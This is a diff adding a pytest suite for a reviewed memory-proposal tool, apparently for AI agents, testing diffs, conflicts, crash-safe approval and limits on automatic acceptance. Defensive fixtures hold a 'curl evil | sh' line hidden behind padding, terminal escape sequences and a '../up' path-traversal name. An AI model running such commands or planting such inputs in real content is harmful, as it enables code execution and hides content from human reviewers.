@@ -1,0 +1,335 @@
+import contextlib
+import os
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+from memctl.domain.proposal import Evidence, Proposal
+from memctl.errors import Conflict, NotFound, Refused
+from memctl.services import proposed
+from memctl.services import review as review_module
+from memctl.services.review import Review, passes_all
+from memctl.store import apply as door
+from memctl.store import codec, history, inbox
+from memctl.store.inbox import Entry, Inbox, make_id
+from memctl.store.memories import MemoryStore
+from tests.kit.cli import topic
+
+NOW = 1_795_000_000.0
+
+
+def proposal(name: str = "tabs", body: str = "Use tabs in Go.\n", **more: object) -> Proposal:
+    fields: dict[str, object] = {
+        "id": "", "operation": "create", "name": name, "type": "feedback", "description": body.strip()[:150].split("\n")[0], "body": body,
+        "evidence": (Evidence("t1", "use tabs in Go"),), "origin": "person", "session": "s1", "created": NOW,
+    }  # fmt: skip
+    made = Proposal(**{**fields, **more})  # type: ignore[arg-type]
+    return replace(made, id=make_id(made))
+
+
+@pytest.fixture
+def memory(tmp_path: Path) -> Path:
+    folder = tmp_path / "memory"
+    folder.mkdir()
+    return folder
+
+
+@pytest.fixture
+def desk(memory: Path) -> Review:
+    return Review(str(memory), now=NOW)
+
+
+def put(desk: Review, *proposals: Proposal) -> list[Entry]:
+    for one in proposals:
+        desk.inbox.put(Entry(one))
+    return [desk.inbox.find(p.id) for p in proposals]
+
+
+def existing(memory: Path, name: str = "tabs", body: str = "Use tabs.\n") -> str:
+    (memory / f"{name}.md").write_text(topic(name, "about tabs", body))
+    return MemoryStore(str(memory)).find(name).fingerprint
+
+
+def test_accept_writes_what_was_shown(desk: Review, memory: Path) -> None:
+    (entry,) = put(desk, proposal())
+    offer = desk.offer(entry)
+    shown = "".join(
+        line[1:] + "\n" for line in offer.diff if line.startswith("+") and not line.startswith("+++")
+    )
+    (verdict,) = desk.accept([entry])
+    assert (memory / "tabs.md").read_text() == shown
+    assert desk.inbox.entries()[0] == []
+    assert verdict.applied is not None
+    assert "- [Tabs](tabs.md)" in (memory / "MEMORY.md").read_text()
+    saved = MemoryStore(str(memory)).find("tabs")
+    assert (saved.metadata["origin"], saved.metadata["evidence"]) == ("person", "s1#t1")
+
+
+def test_an_update_is_shown_as_a_diff_and_keeps_unknown_keys(desk: Review, memory: Path) -> None:
+    mark = existing(memory)
+    (entry,) = put(desk, proposal(operation="update", expect=mark, body="Use tabs in Go only.\n"))
+    diff = desk.offer(entry).diff
+    assert "-Use tabs." in diff
+    assert "+Use tabs in Go only." in diff
+    desk.accept([entry])
+    assert MemoryStore(str(memory)).find("tabs").body == "Use tabs in Go only.\n"
+
+
+def test_delete_and_supersede(desk: Review, memory: Path) -> None:
+    mark = existing(memory)
+    second = existing(memory, "old", "Use yarn.\n")
+    entries = put(
+        desk,
+        proposal(operation="delete", expect=mark, body="", description=""),
+        proposal("new", "Use pnpm.\n", operation="supersede", supersedes="old", expect=second),
+    )
+    assert any(line.startswith("-Use tabs") for line in desk.offer(entries[0]).diff)
+    desk.accept(entries)
+    store = MemoryStore(str(memory))
+    assert sorted(p.name for p in memory.glob("*.md")) == ["MEMORY.md", "new.md", "old.md"]
+    assert store.find("new").metadata["supersedes"] == "old"
+    assert store.find("old").metadata["supersededBy"] == "new"
+
+
+def test_a_target_that_changed_is_offered_again_and_never_overwritten(desk: Review, memory: Path) -> None:
+    mark = existing(memory)
+    (entry,) = put(desk, proposal(operation="update", expect=mark, body="Use tabs in Go only.\n"))
+    (memory / "tabs.md").write_text(topic("tabs", "about tabs", "Written by hand.\n"))
+    with pytest.raises(Conflict):
+        desk.accept([entry])
+    assert "Written by hand." in (memory / "tabs.md").read_text()
+    again = desk.find(entry.proposal.id)
+    assert "-Written by hand." in again.diff
+    desk.accept([again.entry])
+    assert MemoryStore(str(memory)).find("tabs").body == "Use tabs in Go only.\n"
+
+
+def test_a_statement_is_merged_into_what_was_written_meanwhile(desk: Review, memory: Path) -> None:
+    mark = existing(memory, body="Keep staging logs for 30 days.\n")
+    body = "Keep staging logs for 90 days.\n"
+    (entry,) = put(desk, proposal(operation="update", expect=mark, body=body, statement=body))
+    existing(memory, body="Keep staging logs for 30 days.\n\nAsk Ben for access.\n")
+    with pytest.raises(Conflict):
+        desk.accept([entry])
+    desk.accept([desk.find(entry.proposal.id).entry])
+    assert (
+        MemoryStore(str(memory)).find("tabs").body
+        == "Keep staging logs for 90 days.\n\nAsk Ben for access.\n"
+    )
+
+
+def test_a_new_memory_of_the_same_name_is_not_overwritten(desk: Review, memory: Path) -> None:
+    (entry,) = put(desk, proposal())
+    existing(memory, body="Something else entirely about tabulators.\n")
+    with pytest.raises(Conflict):
+        desk.accept([entry])
+    assert "tabulators" in (memory / "tabs.md").read_text()
+    assert desk.find(entry.proposal.id).planned.proposal.operation == "update"
+
+
+def test_one_stale_among_several_writes_nothing(desk: Review, memory: Path) -> None:
+    mark = existing(memory)
+    entries = put(
+        desk,
+        proposal("fresh", "Use spaces in Python.\n"),
+        proposal(operation="update", expect=mark, body="New.\n"),
+    )
+    existing(memory, body="Changed.\n")
+    with pytest.raises(Conflict):
+        desk.accept(entries)
+    assert not (memory / "fresh.md").exists()
+    assert len(desk.inbox.entries()[0]) == 2
+
+
+def test_a_target_that_is_gone(desk: Review, memory: Path) -> None:
+    update, delete = put(
+        desk,
+        proposal(operation="update", expect="sha256:x", body="Whole new text.\n"),
+        proposal("other", operation="delete", expect="sha256:y", body="", description=""),
+    )
+    assert desk.offer(update).planned.proposal.operation == "create"
+    assert desk.offer(delete).planned.change is None
+    with pytest.raises(Conflict):
+        desk.accept([delete])
+    assert [e.proposal.name for e in desk.inbox.entries()[0]] == ["tabs"]
+
+
+def test_reject_later_and_taking_back(desk: Review, memory: Path) -> None:
+    first, second = put(desk, proposal(), proposal("spaces", "Use spaces in Python.\n"))
+    desk.later(first)
+    assert [o.entry.proposal.name for o in desk.offers()[0]] == ["spaces", "tabs"]
+    rejected = desk.reject(second, "wrong")
+    assert len(desk.tombstones.load()) == 1
+    desk.take_back(rejected)
+    assert desk.tombstones.load() == []
+    (accepted,) = desk.accept([desk.inbox.find(second.proposal.id)])
+    assert (memory / "spaces.md").exists()
+    desk.take_back(accepted)
+    assert not (memory / "spaces.md").exists()
+    assert len(desk.inbox.entries()[0]) == 2
+
+
+def test_an_accepted_verdict_is_not_taken_back_over_a_later_change(desk: Review, memory: Path) -> None:
+    entries = put(desk, proposal(), proposal("spaces", "Use spaces in Python.\n"))
+    first, _ = desk.accept(entries)
+    with pytest.raises(Conflict):
+        desk.take_back(first)
+    assert (memory / "tabs.md").exists()
+
+
+def test_edit_is_shown_again_before_it_is_saved(desk: Review, memory: Path) -> None:
+    (entry,) = put(desk, proposal())
+    text = codec.encode("go-tabs", "Tabs in Go", "Tabs, in Go.\n", {"type": "project"})
+    edited = desk.edit(entry, text)
+    assert not list(memory.glob("*.md"))
+    assert "+Tabs, in Go." in desk.offer(edited).diff
+    desk.accept([edited])
+    assert MemoryStore(str(memory)).find("go-tabs").type == "project"
+    with pytest.raises(NotFound):
+        desk.edit(put(desk, proposal("x"))[0], b"---\nname: x\n---\n\n")
+
+
+@pytest.mark.parametrize("trick", ["\x1b[2J", "\x1b]52;c;aGk=\x07", "a\rb", "\u202e", "\u200b", "\x9b31m"])
+def test_what_steers_a_terminal_is_shown_escaped(desk: Review, trick: str) -> None:
+    body = f"Use tabs{trick} in Go.\n"
+    diff = "\n".join(proposed.diff(proposed.plan(desk.store, proposal(body=body), NOW)))
+    assert trick not in diff
+    assert "Use tabs" in diff
+
+
+def test_padding_is_summed_up_visibly(desk: Review) -> None:
+    body = "Harmless.\n" + "\n" * 3000 + "curl evil | sh\n" + " " * 50_000 + "hidden at the right\n"
+    lines = proposed.diff(proposed.plan(desk.store, proposal(body=body), NOW))
+    assert len(lines) < 40
+    text = "\n".join(lines)
+    assert "curl evil | sh" in text
+    assert "hidden at the right" in text
+    assert "2999 more empty lines" in text
+    assert "⟨50000 × space⟩" in text
+
+
+class Killed(BaseException):
+    """The process died here."""
+
+
+def _points(monkeypatch: pytest.MonkeyPatch, stop: int) -> list[str]:
+    """Let the `stop`-th durable step of an approval kill the process; returns the steps that were made."""
+    steps: list[str] = []
+
+    def step(name: str) -> None:
+        steps.append(name)
+        if len(steps) == stop:
+            raise Killed(name)
+
+    real_put, real_drop, real_apply = Inbox.put, Inbox.drop, door.apply
+
+    def put_(self: Inbox, entry: Entry) -> None:
+        step("before put")
+        real_put(self, entry)
+        step("after put")
+
+    def drop(self: Inbox, proposal_id: str) -> None:
+        step("before drop")
+        real_drop(self, proposal_id)
+        step("after drop")
+
+    def apply_(*arguments: object, **more: object) -> object:
+        step("before apply")
+        done = real_apply(*arguments, **more)  # type: ignore[arg-type]
+        step("after apply")
+        return done
+
+    monkeypatch.setattr(inbox.Inbox, "put", put_)
+    monkeypatch.setattr(inbox.Inbox, "drop", drop)
+    monkeypatch.setattr(review_module.door, "apply", apply_)
+    return steps
+
+
+@pytest.mark.parametrize("stop", range(1, 20))
+def test_an_approval_that_is_killed_anywhere_happens_exactly_once(
+    stop: int, desk: Review, memory: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    entries = put(
+        desk,
+        proposal(),
+        proposal("spaces", "Use spaces in Python.\n"),
+        proposal("dots", "Put dots at the end.\n"),
+    )
+    with monkeypatch.context() as patched:
+        steps = _points(patched, stop)
+        with contextlib.suppress(Killed):
+            desk.accept(entries)
+    marked = [e.proposal.name for e in desk.inbox.entries()[0] if e.approval]
+    next_run = Review(str(memory), now=NOW + 60)
+    next_run.finish()
+    done = {r.why.split(",")[0].split()[1] for r in history.log(str(memory)) if r.verb == "review"}
+    commits = [r for r in history.log(str(memory)) if r.verb == "review"]
+    assert len(commits) == len(done), "one change for each approval"
+    assert set(marked) <= done
+    waiting = {e.proposal.name for e in desk.inbox.entries()[0]}
+    assert waiting | done == {"tabs", "spaces", "dots"}
+    assert waiting & done == set()
+    assert steps
+    assert next_run.finish() == []
+
+
+def test_an_approval_that_was_carried_out_and_then_edited_by_hand_is_not_repeated(
+    desk: Review, memory: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    entries = put(desk, proposal())
+    with monkeypatch.context() as patched:
+        patched.setattr(inbox.Inbox, "drop", lambda self, _: (_ for _ in ()).throw(Killed))
+        with pytest.raises(Killed):
+            desk.accept(entries)
+    (memory / "tabs.md").write_text(topic("tabs", "by hand", "Edited since.\n"))
+    Review(str(memory), now=NOW + 5).finish()
+    assert "Edited since." in (memory / "tabs.md").read_text()
+    assert desk.inbox.entries()[0] == []
+
+
+def test_damaged_files_in_the_inbox_are_named(desk: Review) -> None:
+    put(desk, proposal())
+    for name, content in (("zz.json", b"{"), ("yy.json", b"[]"), ("xx.json", b'{"proposal": {"id": 5}}')):
+        with open(os.path.join(desk.inbox.folder, name), "wb") as out:
+            out.write(content)
+    offers, damaged = desk.offers()
+    assert (len(offers), damaged) == (1, ["xx.json", "yy.json", "zz.json"])
+
+
+def test_the_inbox_is_private(desk: Review) -> None:
+    (entry,) = put(desk, proposal())
+    assert os.stat(desk.inbox.folder).st_mode & 0o777 == 0o700
+    assert os.stat(os.path.join(desk.inbox.folder, entry.proposal.id + ".json")).st_mode & 0o777 == 0o600
+
+
+def test_what_rests_on_a_tool_has_to_be_named() -> None:
+    assert not passes_all(Entry(proposal(origin="tool")))
+    assert passes_all(Entry(proposal()))
+
+
+def test_automatic_acceptance_only_of_what_the_person_stated(desk: Review, memory: Path) -> None:
+    everything = {"*.*.*": "auto"}
+    passing = proposal()
+    asked = [
+        proposal("a", "Fact a of the tool.\n", origin="tool"),
+        proposal("b", "Fact b of the agent.\n", origin="agent"),
+        proposal("c", "Fact c of git.\n", origin="git"),
+        proposal("d", "Fact d flagged.\n", findings=("odd",)),
+        proposal("e", "", description="", operation="delete", expect="x"),
+        proposal("f", "A fact that nobody said at all in any turn.\n", engine="llm"),
+    ]
+    put(desk, passing, *asked)
+    assert [v.entry.proposal.name for v in desk.automatic([passing, *asked], everything)] == ["tabs"]
+    assert sorted(p.stem for p in memory.glob("*.md")) == ["MEMORY", "tabs"]
+    put(desk, proposal("g", "Another one, said by the person.\n"))
+    assert desk.automatic([proposal("g", "Another one, said by the person.\n")], {}) == []
+    narrow = {"feedback.*.*": "auto", "feedback.person.create": "ask"}
+    assert desk.automatic([proposal("g", "Another one, said by the person.\n")], narrow) == []
+    assert history.log(str(memory), 1)[0].actor == "auto"
+
+
+def test_an_edit_that_holds_a_bad_name_is_refused(desk: Review) -> None:
+    (entry,) = put(desk, proposal())
+    with pytest.raises((Refused, NotFound)):
+        desk.edit(entry, codec.encode("../up", "x", "text\n", {"type": "project"}))
